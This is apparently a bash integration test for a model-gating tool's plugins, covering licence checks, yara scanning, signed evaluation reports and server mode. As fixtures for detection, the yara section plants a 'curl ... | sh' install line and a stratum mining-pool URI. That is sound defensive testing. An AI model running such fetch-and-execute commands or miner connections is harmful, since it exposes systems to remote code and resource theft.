#!/usr/bin/env bash
# The plugins of plugins/ as people use them: under the command line and under `serve`, listed, tested by the kit, in the verdict and in
# its attestation; big folders, batches, several at a time; and reports of evaluation tools as signed statements that a policy asks for.
# shellcheck disable=SC2016  # jq has variables of its own
# shellcheck source=../../lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../../lib.sh"
here=$(dirname "$(realpath "${BASH_SOURCE[0]}")")
plugins="$root/plugins"
pin() { sha256sum "$1" | cut -d' ' -f1; }
has_yara=1
command -v yara >/dev/null || has_yara=0
cd "$scratch" || exit 1
chmod 755 .
mkdir world
"$PYTHON" "$here/world.py" world
cd world || exit 1

# policy NAME PLUGIN-ENTRY RULE-WITH: beside it, policy.yaml. Of models, anything that is read comes in.
policy() {
    cat >policy.yaml <<YAML
headgate: 1
policy: team/plugins
plugins:
  $1: { $2 }
tiers:
  - { tier: any, match: ["**"] }
rules:
  - id: model.format
    for: [model]
    check: serialization
    why: Loading a file can run code.
  - id: model.asked
    for: [model]
    check: plugin
    with: { plugin: $1, $3 }
    why: It is asked.
YAML
}
check() { run "$HEADGATE" check --policy policy.yaml --output json "$@"; }
finds() { # NAME DECISION IDS...: what the rule of the last check found, sorted, each id once
    local name=$1 decision=$2
    shift 2
    if [ "$(jq -r '.subjects[0].decision' "$scratch/out")" = "$decision" ] &&
        [ "$(jq -r '[.subjects[0].findings[] | select(.rule == "model.asked") | .id] | unique | join(" ")' "$scratch/out")" = "$*" ]; then
        ok "$name"
    else
        not_ok "$name" "$(jq -c '.subjects[0] | {decision, error, rules, findings}' "$scratch/out" 2>&1 | head -c 700) $(head -c 300 "$scratch/err")"
    fi
}

# --- the kit: each plugin of the project passes it
expect "plugin test: shell-example" 0 "$HEADGATE" plugin test "$plugins/shell-example/readme-there"
says "in plain words" '^ok +a request that is cut in the middle is refused'
says "with a tally" '[0-9]+ passed, 0 failed: readme 1.0, sha256 [0-9a-f]{64}'
expect "plugin test: licence" 0 "$HEADGATE" plugin test "$plugins/licence/licence" --settings '{"allow":["mit"]}' --timeout 10
says "batches too" '^ok +it answers three requests at once'
expect "plugin test: settings that it does not take are said" 1 "$HEADGATE" plugin test "$plugins/licence/licence" --settings '{"alow":["mit"]}' --timeout 10
says "with the nearest" "no setting 'alow'; did you mean 'allow'"
if [ "$has_yara" -eq 1 ]; then
    expect "plugin test: yara" 0 "$HEADGATE" plugin test "$plugins/yara/yara-rules" --data "rules=$plugins/yara/example.yar" --timeout 20
else
    skip "plugin test: yara" "yara is not installed"
fi
printf '#!/bin/sh\necho "{}"\n' >careless
expect "plugin test: a plugin that answers anything fails it" 1 "$HEADGATE" plugin test careless
expect "plugin test: words are no program" 4 "$HEADGATE" plugin test policy-words
expect "plugin test: nothing there" 2 "$HEADGATE" plugin test absent

# --- the shell plugin
policy readme "run: $plugins/shell-example/readme-there, sha256: $(pin "$plugins/shell-example/readme-there")" "settings: {}"
check with-card
finds "shell: a model with a README" allow
check no-card
finds "shell: a model without one" deny readme.missing

# The transcript in plugins/README.md is what that plugin says.
"$PYTHON" "$here/transcript.py" "$plugins/README.md" "$plugins/shell-example/readme-there" || failures=1

# --- licences
licence="run: $plugins/licence/licence, sha256: $(pin "$plugins/licence/licence"), timeout: 20s"
policy licence "$licence" 'settings: { allow: [mit, apache-2.0, bsd-3-clause], deny: [gpl-3.0-only] }'
for case in "$here"/licences/*.md; do
    name=$(basename "$case" .md)
    cp -r with-card "licence-$name"
    sed -n '2,$p' "$case" >"licence-$name/README.md"
    check "licence-$name"
    read -r decision ids <<<"$(sed -n '1s/^<!-- \(.*\) -->$/\1/p' "$case")"
    # shellcheck disable=SC2086
    finds "licence: $name" "$decision" $ids
done
cp -r with-card tagged
printf '# SPDX-License-Identifier: GPL-3.0-only\nx = 1\n' >tagged/notes.txt
check tagged
finds "licence: a tag in a file counts" deny licence.denied
expect "with its place" 0 jq -e '.subjects[0].findings[] | select(.id == "licence.denied") | .location == {"path":"tagged/notes.txt","line":1}' "$scratch/out"
check pkg:pypi/requests@2.31.0 hf:acme/model
expect "a name has no bytes: skipped, and no plugin is asked" 0 jq -e '[.subjects[].rules[] | select(.check == "plugin")] | map(.result) | (index("pass") == null) and (index("error") == null)' "$scratch/out"

# --- settings, pins
policy licence "$licence" 'settings: { alow: [mit] }'
check with-card
expect "settings that the plugin's schema does not have: could not decide" 0 jq -e '.subjects[0].decision == "error" and (.subjects[0].error | test("did you mean .allow."))' "$scratch/out"
expect "plugin list says so before" 1 "$HEADGATE" plugin list policy.yaml
says "with the rule" "rule 'model.asked' at policy.yaml"
policy licence "$licence" 'settings: { allow: [mit] }'
expect "plugin list: all is well" 0 "$HEADGATE" plugin list policy.yaml
says "name and version" '^licence: licence 1.0'
says "the pin" "sha256: $(pin "$plugins/licence/licence") +as the policy pins it"
says "kinds" 'for: +model, dataset, package'
expect "plugin list as JSON" 0 "$HEADGATE" plugin list policy.yaml --output json
expect "it is" 0 jq -e '.[0].pinned and .[0].problem == "" and .[0].asked_by == ["model.asked"]' "$scratch/out"
cp "$plugins/licence/licence" mine
policy licence "run: mine, sha256: $(pin mine)" 'settings: { allow: [mit] }'
echo '# one line more' >>mine
expect "a plugin that changed is not loaded" 4 "$HEADGATE" check --policy policy.yaml with-card
says "the right digest is said" "has SHA-256 $(pin mine), not the one written here"
expect "plugin list shows it, and does not run it" 1 "$HEADGATE" plugin list policy.yaml
says "as another" 'NOT what the policy pins'
policy licence "run: mine" 'settings: { allow: [mit] }'
expect "without a pin it is not loaded" 4 "$HEADGATE" check --policy policy.yaml with-card
says "and the digest to write is said" "write beside it: sha256: $(pin mine)"

# --- verdict and attestation
make_key key
policy licence "$licence" 'settings: { allow: [mit] }'
run "$HEADGATE" check --policy policy.yaml --output json --attest verdict.intoto.jsonl --key key with-card
cp "$scratch/out" verdict.json
expect "the verdict names the plugin, its version and its hash" 0 \
    jq -e --arg sha "$(pin "$plugins/licence/licence")" '.subjects[0].rules[] | select(.id == "model.asked") | .plugin | .program == "licence" and .version == "1.0" and .sha256 == $sha' "$scratch/out"
head -n 1 verdict.intoto.jsonl | jq -r .payload | base64 -d >result.json
expect "and so does the result statement" 0 \
    jq -e --arg sha "sha256:$(pin "$plugins/licence/licence")" '.predicate.plugins.licence | .digest == $sha and .version == "1.0"' result.json
expect "the report is valid by the published schema" 0 "$PYTHON" -c 'import json, jsonschema, sys
jsonschema.validate(json.load(open(sys.argv[1])), json.load(open(sys.argv[2])))' verdict.json "$root/rules/schema/result-v1.schema.json"
expect "its rule names it" 0 jq -e '.predicate.rules[] | select(.id == "model.asked") | .plugin == "licence"' result.json

# --- recorded evidence, why, policy test, names of findings
"$HEADGATE" facts with-card >with-card.facts.json
cat >>policy.yaml <<'YAML'
tests:
  - name: files are there, so the plugin is asked
    subject: with-card
    expect: { decision: allow, rules: { model.asked: pass } }
  - name: recorded evidence has none, so nothing is decided
    evidence: with-card.facts.json
    expect: { decision: error, rules: { model.asked: error } }
YAML
expect "policy test asks plugins where there are files, and never passes where there are none" 0 "$HEADGATE" policy test policy.yaml
expect "why tells of the plugin's rule" 0 "$HEADGATE" why --policy policy.yaml with-card model.asked
policy licence "$licence" 'settings: { allow: [apache-2.0] }'
expect "a finding of a plugin is explained in the text" 1 "$HEADGATE" check --policy policy.yaml with-card
says "with what to do" 'is not among the licences'
says "and how to mend it" "add the licence to the policy's list"

# --- many files, many subjects
policy licence "$licence" 'settings: { allow: [mit] }'
check many
finds "a folder of 300 files is asked about in parts" allow
echo 'SPDX-License-Identifier: GPL-3.0-only' >many/zzz.txt
check many
finds "and a finding in the last part counts" deny licence.not-allowed
mkdir several
for i in $(seq 40); do cp -r with-card "several/m$i"; done
printf -- '---\nlicense: gpl-3.0-only\n---\n' >several/m7/README.md
check several/m*
expect "of 40 models in batches one is refused" 0 jq -e '[.subjects[] | select(.decision == "allow")] | length == 39' "$scratch/out"

# --- yara
if [ "$has_yara" -eq 1 ]; then
    cp "$plugins/yara/example.yar" .
    policy yara "run: $plugins/yara/yara-rules, sha256: $(pin "$plugins/yara/yara-rules"), timeout: 30s, data: { rules: { path: example.yar, sha256: $(pin example.yar) } }" \
        'settings: { ignore-suffixes: [.gguf] }'
    check with-card
    finds "yara: a model that nothing matches" allow
    expect "the rules that it used are in the verdict" 0 \
        jq -e --arg sha "$(pin example.yar)" '.subjects[0].rules[] | select(.id == "model.asked") | .plugin | .used == [{"name":"rules","sha256":$sha}] and .given == .used' "$scratch/out"
    cp -r with-card shell
    printf 'Install it so: curl -s https://get.example/x | sh\n' >shell/NOTES.txt
    check shell
    finds "yara: a model with a match" deny yara.match
    expect "with the rule's words, severity and place" 0 \
        jq -e '.subjects[0].findings[] | select(.id == "yara.match") | .severity == "high" and (.message | test("fetched_and_run")) and .location.path == "shell/NOTES.txt" and .location.offset > 0' "$scratch/out"
    head -c 6000000 /dev/zero | tr '\0' 'a' >shell/large.txt
    printf 'stratum+tcp://pool.example\n' >>shell/large.txt
    rm shell/NOTES.txt
    check shell
    finds "yara: in a file too large to be copied, too" deny yara.match
    printf 'rule broken {' >example.yar
    policy yara "run: $plugins/yara/yara-rules, sha256: $(pin "$plugins/yara/yara-rules"), data: { rules: { path: example.yar, sha256: $(pin example.yar) } }" 'settings: {}'
    check with-card
    finds "yara: rules that do not compile could not decide" error
    expect "plugins/yara/README.md is about what is there" 0 grep -q 'example.yar' "$plugins/README.md"
else
    skip "yara: rules over model folders" "yara is not installed"
fi

# --- evaluation reports, signed, and asked for
report="$plugins/eval-reports/test-result"
for case in "$here"/reports/*; do
    name=$(basename "$case")
    tool=${name%%.*}
    wanted=$(cut -d. -f2 <<<"$name")
    words=()
    [ "$tool" != lm-eval ] || words=(--demand 'arc_easy:acc>=0.6')
    run "$report" "$tool" "$case" --subject with-card "${words[@]}"
    if [ "$wanted" = REFUSED ]; then
        if [ "$status" -ne 0 ] && [ ! -s "$scratch/out" ]; then ok "report $name is refused"; else not_ok "report $name is refused" "exit $status"; fi
    else
        expect "report $name" 0 jq -e --arg result "$wanted" '.predicate.result == $result and (.predicate.configuration[0].name | test("^(garak|promptfoo|lm-eval)"))' "$scratch/out"
    fi
done
"$report" garak "$here/reports/garak.PASSED.jsonl" --subject with-card --output statement.json
expect "the statement is signed" 0 "$HEADGATE" sign --content statement statement.json --key key --signature tests.sigstore.json
cat >asks.yaml <<YAML
headgate: 1
policy: team/tested
trust: { keys: { ci: { public-key: key.pub } } }
tiers:
  - { tier: any, match: ["**"] }
rules:
  - id: model.red-teamed
    for: [model]
    check: attestation
    with:
      predicate: https://in-toto.io/attestation/test-result/v0.1
      signed-by: { any-of: [ci] }
      where: [ { at: /result, equals: PASSED }, { at: /configuration/0/name, matches: "garak.*" } ]
    why: A model is tested before it is used.
YAML
expect "a policy asks for it, and lets the model in" 0 "$HEADGATE" check --policy asks.yaml --evidence tests.sigstore.json with-card
expect "and no other model" 1 "$HEADGATE" check --policy asks.yaml --evidence tests.sigstore.json no-card
"$report" garak "$here/reports/garak.FAILED.jsonl" --subject with-card --output failed.json
"$HEADGATE" sign --content statement failed.json --key key --signature failed.sigstore.json >/dev/null
expect "nor by a report that failed" 1 "$HEADGATE" check --policy asks.yaml --evidence failed.sigstore.json with-card

# --- under serve: the same subjects, byte for byte
policy licence "$licence" 'settings: { allow: [mit] }'
start_server --policy policy.yaml --root "$PWD"
run curl -sS --max-time 30 "http://$url/v1/evaluate" -d '{"subjects":[{"path":"with-card"},{"path":"licence-denied"}]}'
cp "$scratch/out" http.json
run "$HEADGATE" check --policy policy.yaml --output json=cli.json with-card licence-denied
subjects() { grep -ao '"subjects":.*,"outside_files"' "$1"; }
expect "serve: subjects are byte for byte those of the CLI" 0 cmp <(subjects http.json) <(subjects cli.json)
expect "serve: one is allowed, one refused by the plugin" 0 jq -e '[.subjects[].decision] == ["allow", "deny"]' http.json
cp "$plugins/licence/licence" mine
policy licence "run: mine, sha256: $(pin mine)" 'settings: { allow: [mit] }'
wait_for grep -q '"event":"policy loaded"' "$scratch/log"
echo '# changed' >>mine
run curl -sS --max-time 30 "http://$url/v1/evaluate" -d '{"subjects":[{"path":"with-card"}]}'
expect "serve: what was pinned and read keeps running, whatever becomes of the file" 0 jq -e '.subjects[0].decision == "allow"' "$scratch/out"
